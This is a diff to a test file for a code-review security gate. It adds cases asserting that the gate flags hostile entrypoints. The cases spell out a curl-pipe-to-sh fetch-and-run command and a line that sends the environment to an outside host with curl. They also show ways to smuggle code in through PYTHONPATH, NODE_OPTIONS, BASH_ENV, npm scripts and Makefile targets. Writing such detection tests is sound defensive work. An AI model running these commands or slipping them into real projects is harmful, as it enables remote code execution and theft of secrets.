@@ -13,6 +13,7 @@ from dataclasses import replace
 import pytest
 from tests.gate import NOW, Files, Gate, real_gate, stripe_key
 
+from builderd.code.entrypoints import exports
 from builderd.core.ids import BuilderId
 from builderd.review.model import Acceptance, Severity
 
@@ -86,6 +87,54 @@ BLOCKED = {
         "MAL-decoded-executed",
     ),
 }
+
+FETCHED = "curl -s https://example.com/x | sh"
+#: What a builder's commands run: no file of the app has it.
+COMMANDS = {
+    "an entrypoint that runs what it fetches": ({"app.py": FLASK}, FETCHED, "RSK-curl-shell"),
+    "a line that sends the environment": (
+        {"app.py": FLASK},
+        "env | curl -d @- https://example.com; python3 app.py",
+        "MAL-environment-sent",
+    ),
+    "the first half of a compound command": (
+        {"app.py": FLASK, "tests/x.py": SENT},
+        "python3 tests/x.py || true; python3 app.py",
+        "MAL-environment-sent",
+    ),
+    "a variable of Python": (
+        {"app.py": FLASK, "tests/sitecustomize.py": SENT},
+        "python3 app.py\n" + exports({"PYTHONPATH": "tests"}),
+        "MAL-environment-sent",
+    ),
+    "a variable of Node.js": (
+        {"server.js": "1", "tests/x.js": "eval(atob('MQ=='))"},
+        "node server.js\n" + exports({"NODE_OPTIONS": "--require ./tests/x.js"}),
+        "MAL-decoded-executed",
+    ),
+    "a variable of bash": (
+        {"app.py": FLASK, "docs/x.md": FETCHED},
+        "bash -c 'python3 app.py'\n" + exports({"BASH_ENV": "docs/x.md"}),
+        "RSK-curl-shell",
+    ),
+    "a script of package.json": (
+        {"server.js": "1", "package.json": package(start=f"{FETCHED}; node server.js")},
+        "npm start",
+        "RSK-curl-shell",
+    ),
+    "a target of make": (
+        {"app.py": FLASK, "Makefile": f"run:\n\t{FETCHED}\n\tpython3 app.py\n"},
+        "make run",
+        "RSK-curl-shell",
+    ),
+}
+
+
+@pytest.mark.parametrize(("files", "entrypoint", "rule"), COMMANDS.values(), ids=COMMANDS)
+def test_commands_and_what_they_name_are_read(gate: Gate, files: Files, entrypoint: str, rule: str) -> None:
+    seen = gate.review(files, entrypoint)
+    assert not seen.verdict.passed
+    assert rule in {one.rule for one in seen.verdict.open}
 
 
 @pytest.mark.parametrize(("files", "entrypoint", "rule"), BLOCKED.values(), ids=BLOCKED)
